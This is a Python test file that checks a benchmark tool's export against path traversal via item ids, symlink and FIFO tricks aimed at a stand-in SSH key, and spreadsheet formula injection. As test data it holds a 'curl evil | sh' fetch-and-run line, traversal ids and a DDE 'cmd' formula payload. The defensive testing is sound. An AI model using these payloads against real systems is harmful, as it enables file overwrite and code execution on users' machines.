"""Exports of hostile benchmarks (issue 14): every path is computed, never taken.

Item ids that are absolute paths, climb with ``..``, are ``.``, hold NUL or collide after
path normalisation; images that are links, FIFOs or files outside the benchmark; targets
that are the project or its sources; full disks and killed exports.
"""

from __future__ import annotations

import csv
import errno
import hashlib
import json
import os
import signal
import stat
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import reviewer
from reviewer.cli import main as cli_main
from reviewer.core.errors import InputError
from reviewer.core.items import Benchmark, Item
from reviewer.export import export_benchmark
from reviewer.formats.load import load_benchmark
from reviewer.formats.registry import ReadOptions
from reviewer.store.importer import import_benchmark
from reviewer.store.project import Project

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 32
SECRET = b"-----BEGIN OPENSSH PRIVATE KEY----- stand-in\n"


def project_of(path: Path, items: list[Item], preds: dict[str, dict[str, str]] | None = None,
               sources: list[str] | None = None) -> Project:
    project = Project(path, create=True)
    import_benchmark(project, Benchmark("text", items, preds or {}, sources or []), workers=1)
    return project


def tree(root: Path, skip: Path | None = None) -> dict[str, bytes | None]:
    """Every path below ``root`` (not following links) with a regular file's bytes."""
    out: dict[str, bytes | None] = {}
    for folder, dirs, files in os.walk(root):
        if skip is not None and Path(folder) == skip:
            dirs[:] = []
            continue
        for name in dirs + files:
            path = Path(folder) / name
            if skip is not None and path == skip:
                continue
            info = os.lstat(path)
            out[str(path.relative_to(root))] = (path.read_bytes() if stat.S_ISREG(info.st_mode)
                                               else None)
    return out


def reread(folder: Path) -> dict[str, tuple[str, dict[str, str]]]:
    """id -> (reference, metadata) of an exported folder read back."""
    bench = load_benchmark(folder, [], ReadOptions())
    return {item.id: (item.reference, dict(item.meta)) for item in bench.items}


def test_a_hostile_id_from_a_downloaded_table_writes_nothing_outside_the_folder(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Finding 1: an id naming a file the user owns cannot replace it."""
    home = tmp_path / "home"
    home.mkdir()
    bashrc = home / ".bashrc"
    bashrc.write_text("# mine\n")
    dl = tmp_path / "dl"
    dl.mkdir()
    with open(dl / "bench.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "reference", "pred_ocr"])
        writer.writerow([str(bashrc), "curl evil | sh", "x"])
        writer.writerow(["../../escaped", "up two", "y"])
        writer.writerow(["ok/line1", "fine", "fine"])
    assert cli_main(["import", str(tmp_path / "p.db"), str(dl / "bench.csv")]) == 0
    before = tree(tmp_path)
    out = tmp_path / "work" / "out"
    assert cli_main(["export", str(tmp_path / "p.db"), str(out), "--format", "folder"]) == 0
    assert bashrc.read_text() == "# mine\n"
    after = tree(tmp_path, skip=out)
    after.pop("work", None)
    assert after == before
    assert reread(out) == {str(bashrc): ("curl evil | sh", {}),
                           "../../escaped": ("up two", {}), "ok/line1": ("fine", {})}


HOSTILE_IDS = ["../../x", "/etc/x", ".", "..", "a\0b", "..\\..\\win", "CON", "nul.txt",
               "x" * 400, "/".join("d" * 30), "tab\there", "new\nline", "%2E", ".hidden",
               "manifest.json", "a.gt.txt/b", "ESC\x1b]0;title\x07"]


def test_hostile_ids_each_get_their_own_file_inside_the_folder(tmp_path: Path) -> None:
    """Findings 1 and 21: absolute, climbing, NUL, reserved, too long or too deep ids."""
    items = [Item(item_id, f"ref {n}") for n, item_id in enumerate(HOSTILE_IDS)]
    project = project_of(tmp_path / "p.db", items, {"ocr": {i.id: "p" for i in items}})
    work = tmp_path / "work"
    work.mkdir()
    out = work / "out"
    export_benchmark(project, out, fmt="folder")
    assert sorted(os.listdir(work)) == ["out"]
    for folder, dirs, files in os.walk(out):
        for name in dirs + files:
            assert len(name.encode()) <= 255 and not name.startswith(".")
            path = Path(folder) / name
            assert os.path.realpath(path).startswith(os.path.realpath(out) + os.sep)
    assert reread(out) == {i.id: (i.reference, {}) for i in items}


COLLIDING = ["a", "./a", "x/b", "x//b", "c", "c/", "d/../e", "e", "A", "f/", "f", "."]


def test_ids_that_name_one_file_stay_distinct(tmp_path: Path) -> None:
    """Finding 7: no item silently dropped; the id ``.`` writes nothing beside the folder."""
    items = [Item(item_id, f"ref of {item_id!r}") for item_id in COLLIDING]
    project = project_of(tmp_path / "p.db", items)
    (tmp_path / "work").mkdir()
    out = tmp_path / "work" / "out"
    export_benchmark(project, out, fmt="folder")
    assert sorted(os.listdir(tmp_path / "work")) == ["out"]
    assert reread(out) == {i.id: (i.reference, {}) for i in items}
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    files = [entry["file"] for entry in manifest["items"]]
    assert len(set(files)) == len(COLLIDING)


def make_benchmark_with_media(tmp_path: Path) -> tuple[Project, Path]:
    """A benchmark folder whose table points at good and hostile images."""
    secret = tmp_path / "home" / ".ssh" / "id_ed25519"
    secret.parent.mkdir(parents=True)
    secret.write_bytes(SECRET)
    bench = tmp_path / "bench"
    (bench / "img").mkdir(parents=True)
    (bench / "img" / "good.png").write_bytes(PNG)
    (bench / "img" / "link.png").symlink_to(secret)
    os.mkfifo(bench / "img" / "fifo.png")
    (bench / "linked").symlink_to(secret.parent)
    (bench / ".cache").mkdir()
    (bench / ".cache" / "hidden.png").write_bytes(PNG)
    outside = tmp_path / "elsewhere.png"
    outside.write_bytes(SECRET)
    media = {"good": bench / "img" / "good.png", "link": bench / "img" / "link.png",
             "fifo": bench / "img" / "fifo.png", "abs": outside,
             "via_dir": bench / "linked" / "id_ed25519.png",
             "hidden": bench / ".cache" / "hidden.png"}
    (secret.parent / "id_ed25519.png").write_bytes(SECRET)
    rows = [["id", "reference", "image"], *([k, f"text {k}", str(v)] for k, v in media.items())]
    with open(bench / "bench.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    project = Project(tmp_path / "p.db", create=True)
    import_benchmark(project, load_benchmark(bench / "bench.csv", [], ReadOptions()), workers=1)
    return project, bench


def test_folder_export_copies_only_regular_images_inside_the_benchmark(tmp_path: Path) -> None:
    """Finding 3: links, FIFOs, hidden and outside files are listed as left out, not copied."""
    project, _ = make_benchmark_with_media(tmp_path)
    out = tmp_path / "out"
    result = export_benchmark(project, out, fmt="folder")
    copied = {p.name: p.read_bytes() for p in out.rglob("*.png")}
    assert copied == {"good.png": PNG}
    for data in (p.read_bytes() for p in out.rglob("*") if p.is_file()):
        assert SECRET not in data
    manifest = json.loads((out / "manifest.json").read_text("utf-8"))
    left = {e["id"]: e["reason"] for e in manifest["media_left_out"]}
    assert left == {"link": "a symbolic link", "fifo": "not a regular file",
                    "abs": "outside the benchmark's folder",
                    "via_dir": "reached through a symbolic link",
                    "hidden": "in a hidden folder or a hidden file"}
    assert {e["id"] for e in result.media_left_out} == set(left)
    assert reread(out).keys() == {"good", "link", "fifo", "abs", "via_dir", "hidden"}


def test_a_manifest_name_taken_by_a_folder_leaves_the_old_export_whole(tmp_path: Path) -> None:
    """Finding 9: the data file is not replaced when its manifest cannot be."""
    project = project_of(tmp_path / "p.db", [Item("a", "one")], sources=[])
    out = tmp_path / "out.jsonl"
    out.write_text("old data\n")
    (tmp_path / "out.jsonl.manifest.json").mkdir()
    with pytest.raises(InputError):
        export_benchmark(project, out)
    assert out.read_text() == "old data\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []


def test_a_full_disk_while_writing_the_manifest_keeps_the_old_pair(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 9: no new data beside the old manifest."""
    project = project_of(tmp_path / "p.db", [Item("a", "one"), Item("b", "two")])
    out = tmp_path / "out.jsonl"
    export_benchmark(project, out)
    old = (out.read_bytes(), (tmp_path / "out.jsonl.manifest.json").read_bytes())
    from reviewer.store import decisions

    decisions.decide(project, "a", "me", verdict="unusable")
    import reviewer.export as export

    real = json.dumps

    def full(obj: object, **kwargs: object) -> str:
        if isinstance(obj, dict) and "policy" in obj:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(obj, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(export.json, "dumps", full)
    with pytest.raises((InputError, OSError)):
        export_benchmark(project, out)
    monkeypatch.undo()
    assert (out.read_bytes(), (tmp_path / "out.jsonl.manifest.json").read_bytes()) == old


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.slow
def test_a_killed_export_never_leaves_a_manifest_for_other_data(tmp_path: Path) -> None:
    """Finding 9: SIGKILL at random moments; a manifest always names its data's hash."""
    items = [Item(f"i{n}", "word " * 20 + str(n)) for n in range(3000)]
    project_of(tmp_path / "p.db", items, {"ocr": {i.id: i.reference[::-1] for i in items}})
    out = tmp_path / "out.parquet"
    manifest = tmp_path / "out.parquet.manifest.json"
    command = [sys.executable, "-m", "reviewer", "export", str(tmp_path / "p.db"), str(out)]
    # The reviewer under test, wherever the working folder is.
    env = {**os.environ, "PYTHONPATH": str(Path(reviewer.__file__).parents[1])}
    subprocess.run(command, check=True, capture_output=True, cwd=tmp_path, env=env)
    start = time.monotonic()
    subprocess.run(command, check=True, capture_output=True, cwd=tmp_path, env=env)
    took = time.monotonic() - start
    for run in range(10):
        proc = subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL, env=env)
        time.sleep(took * (0.3 + 0.7 * run / 10))
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        if manifest.exists():
            assert json.loads(manifest.read_text("utf-8"))["data_sha256"] == sha256(out)


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_formula_cells_are_neutralised_and_read_back_unchanged(tmp_path: Path, fmt: str) -> None:
    """Finding 15: a spreadsheet shows formula cells as text; reviewer reads them back."""
    texts = ["=HYPERLINK(\"http://x\")", "+1+1", "-2", "@SUM(A1)", "\tTAB", "\rCR",
             "'=quoted", "plain", "''+two"]
    items = [Item(f"i{n}", t, None, (("note=", "=cmd|' /C calc'!A0"),))
             for n, t in enumerate(texts)]
    project = project_of(tmp_path / "p.db", items, {"ocr": {i.id: i.reference for i in items}})
    out = tmp_path / f"out.{fmt}"
    export_benchmark(project, out)
    assert not [c for c in cells_of(out) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    again = load_benchmark(out, [], ReadOptions())
    assert [(i.id, i.reference, dict(i.meta)) for i in again.items] == [
        (i.id, i.reference, dict(i.meta)) for i in items]
    assert again.predictions["ocr"] == {i.id: i.reference for i in items}
    raw = tmp_path / f"raw.{fmt}"
    export_benchmark(project, raw, raw_cells=True)
    assert set(texts) <= set(cells_of(raw))


def cells_of(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh, delimiter="\t" if path.suffix == ".tsv" else ",")
                for c in row]


def test_raw_cells_is_a_cli_option(tmp_path: Path) -> None:
    project_of(tmp_path / "p.db", [Item("a", "=1+1")])
    out = tmp_path / "o.csv"
    assert cli_main(["export", str(tmp_path / "p.db"), str(out), "--raw-cells"]) == 0
    assert "\na,=1+1," in out.read_text("utf-8")


def test_an_export_never_writes_over_the_project_or_its_sources(tmp_path: Path) -> None:
    """Finding 17."""
    source = tmp_path / "bench.csv"
    source.write_text("id,reference,pred_ocr\na,one,one\nb,two,too\n", encoding="utf-8")
    project = Project(tmp_path / "proj.jsonl", create=True)
    import_benchmark(project, load_benchmark(source, [], ReadOptions()), workers=1)
    project.db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    kept = {p: p.read_bytes() for p in (source, project.path)}
    cases = [(source, None), (project.path, None), (tmp_path / "x.csv", tmp_path / "x.csv"),
             (None, source), (tmp_path / "y.csv", tmp_path / "y.csv.manifest.json"),
             (tmp_path / "link.csv", None)]
    (tmp_path / "link.csv").symlink_to(source)
    for target, changes in cases:
        with pytest.raises(InputError):
            export_benchmark(project, target, changes=changes)
        assert {p: p.read_bytes() for p in kept} == kept
        assert not (tmp_path / "x.csv").exists()


META = {"status": "gold", "speaker": "spk1", "meta_x": "prefixed", "path": "p/1",
        "note": "user note", "verdict": "v", "pred_foo": "not a system", "gt": "g"}


@pytest.mark.parametrize("fmt", ["csv", "tsv", "jsonl", "parquet", "folder"])
def test_metadata_round_trips_by_its_own_names(tmp_path: Path, fmt: str) -> None:
    """Finding 18: user metadata comes back as it was; the export's bookkeeping does not."""
    other = {k: f"{v} too" for k, v in META.items()}
    items = [Item("a", "one", None, tuple(META.items())), Item("b", "two", None,
                                                              tuple(other.items()))]
    project = project_of(tmp_path / "p.db", items, {"ocr": {"a": "one", "b": "tw0"}})
    out = tmp_path / ("out" if fmt == "folder" else f"out.{fmt}")
    export_benchmark(project, out, fmt=fmt)
    again = load_benchmark(out, [], ReadOptions())
    assert {i.id: dict(i.meta) for i in again.items} == {"a": META, "b": other}
    assert list(again.predictions) == ["ocr"]


@pytest.mark.parametrize("kind", ["choice", "label"])
@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_metadata_round_trips_in_the_kinds_own_tables(
        tmp_path: Path, kind: str, fmt: str) -> None:
    """Finding 18 for the kinds with their own table readers: a user column named like the
    export's bookkeeping (``status``, ``note``) comes back under its own name, and the
    export's own ``status``/``verdict``/``note``/``original_reference`` do not."""
    source = tmp_path / "bench.csv"
    if kind == "choice":
        source.write_text("id,question,A,B,answer,status,note,sys\n"
                          "q1,Two plus two?,3,4,B,draft,asked twice,B\n"
                          "q2,Capital of France?,Paris,Rome,A,final,,B\n", encoding="utf-8")
        options = ReadOptions(kind="choice", pred_cols={"sys": "sys"})
    else:
        source.write_text("id,text,label,status,note,pred_sys\n"
                          "t1,a good film,pos,draft,asked twice,pos\n"
                          "t2,a bad film,neg,final,,pos\n", encoding="utf-8")
        options = ReadOptions(kind="label")
    first = load_benchmark(source, [], options)
    with Project(tmp_path / "p.db", create=True) as project:
        import_benchmark(project, first, workers=1)
        out = tmp_path / f"out.{fmt}"
        export_benchmark(project, out)
    again = load_benchmark(out, [], ReadOptions(kind=kind))
    assert {i.id: dict(i.meta) for i in again.items} == {i.id: dict(i.meta) for i in first.items}
    assert dict(first.items[0].meta)["status"] == "draft"
    assert list(again.predictions) == ["sys"]


def run_cli(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = cli_main(args)
    return code, capsys.readouterr().err


def test_unwritable_targets_give_one_line_errors(
        tmp_path: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Finding 21 (export): a folder named out.csv, a path under a file, a too long name,
    a full disk and a read-only file system."""
    db = str(project_of(tmp_path / "p.db", [Item("a", "one")]).path)
    (tmp_path / "out.csv").mkdir()
    (tmp_path / "file").write_text("x")
    cases = {str(tmp_path / "out.csv"): "is a folder",
             str(tmp_path / "file" / "o.csv"): "it is a file, not a folder",
             str(tmp_path / ("n" * 300 + ".csv")): "255 bytes"}
    for target, said in cases.items():
        code, err = run_cli(["export", db, target], capsys)
        assert code == 1 and said in err and err.count("\n") == 1, err
    for number, meaning in [(errno.ENOSPC, "the disk is full"),
                            (errno.EROFS, "read-only"), (errno.EACCES, "permission denied")]:
        def refuse(*args: object, number: int = number) -> None:
            raise OSError(number, os.strerror(number), str(args[0]))

        monkeypatch.setattr(os, "replace", refuse)
        code, err = run_cli(["export", db, str(tmp_path / "o.jsonl")], capsys)
        monkeypatch.undo()
        assert code == 1 and meaning in err and err.count("\n") == 1, err
        assert not (tmp_path / "o.jsonl").exists()


@pytest.mark.parametrize("source_format", ["trn", "stm", "kaldi", "kern-folder"])
def test_same_format_that_cannot_be_written_says_what_to_use(
        tmp_path: Path, source_format: str) -> None:
    """Finding 21: not "unknown export format 'trn'"."""
    project = project_of(tmp_path / "p.db", [Item("a", "one")])
    project.set_meta("source_format", source_format)
    with pytest.raises(InputError, match=r"files is not supported; export to a table"):
        export_benchmark(project, tmp_path / "out", fmt="same")


def test_stale_parts_are_removed_and_folders_get_the_umask_mode(tmp_path: Path) -> None:
    """Finding 22: a killed run's hidden .part files go at the next run; no 0700 folders."""
    project = project_of(tmp_path / "p.db", [Item("a", "one")])
    stale = tmp_path / ".out.jsonl.abc123.part"
    stale.write_text("half")
    stale_dir = tmp_path / ".folder.xyz.part"
    stale_dir.mkdir()
    fresh = tmp_path / ".out.jsonl.new999.part"
    fresh.write_text("another run, still writing")
    old = time.time() - 3600
    os.utime(stale, (old, old))
    os.utime(stale_dir, (old, old))
    export_benchmark(project, tmp_path / "out.jsonl")
    export_benchmark(project, tmp_path / "folder", fmt="folder")
    assert not stale.exists() and not stale_dir.exists() and fresh.exists()
    mask = os.umask(0o022)
    os.umask(mask)
    assert stat.S_IMODE(os.stat(tmp_path / "folder").st_mode) == 0o777 & ~mask


ID_CHARS = st.sampled_from(["a", "B", "/", ".", "..", "\0", "\\", "%", " ", "é", "e\u0301",
                            ":", "\n", "CON", "~", "-"])


@pytest.mark.slow
@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ids=st.lists(st.lists(ID_CHARS, min_size=1, max_size=12).map("".join),
                    min_size=1, max_size=12,
                    # ids equal after NFC are refused at import: one of each form
                    unique_by=lambda i: unicodedata.normalize("NFC", i)))
def test_fuzzed_ids_export_inside_the_folder_and_read_back(
        tmp_path_factory: pytest.TempPathFactory, ids: list[str]) -> None:
    """Any set of ids: every file inside the output folder, each id back as it was."""
    tmp_path = tmp_path_factory.mktemp("fuzz")
    items = [Item(item_id, f"ref {n}") for n, item_id in enumerate(ids)]
    project = project_of(tmp_path / "p.db", items, {"ocr": {i.id: "p" for i in items}})
    work = tmp_path / "work"
    work.mkdir()
    export_benchmark(project, work / "out", fmt="folder")
    project.close()
    assert os.listdir(work) == ["out"]
    assert reread(work / "out") == {i.id: (i.reference, {}) for i in items}
